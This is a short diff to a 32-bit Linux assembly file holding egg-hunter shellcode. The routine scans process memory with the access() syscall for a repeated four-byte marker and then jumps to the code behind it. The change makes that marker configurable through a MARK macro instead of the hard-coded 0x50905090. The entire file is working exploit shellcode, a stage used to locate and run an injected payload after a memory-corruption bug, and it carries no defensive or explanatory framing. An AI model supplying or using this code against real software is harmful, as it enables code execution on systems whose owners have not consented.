@@ -1,5 +1,8 @@
 ; Linux, 32 bit: walks through memory with access() until it finds its mark twice, then jumps behind it.
 bits 32
+%ifndef MARK
+%define MARK 0x50905090
+%endif
         xor edx, edx
 page:   or dx, 0xfff
 next:   inc edx
@@ -9,7 +12,7 @@ next:   inc edx
         int 80h
         cmp al, 0xf2
         je page
-        mov eax, 0x50905090
+        mov eax, MARK
         mov edi, edx
         scasd
         jne next
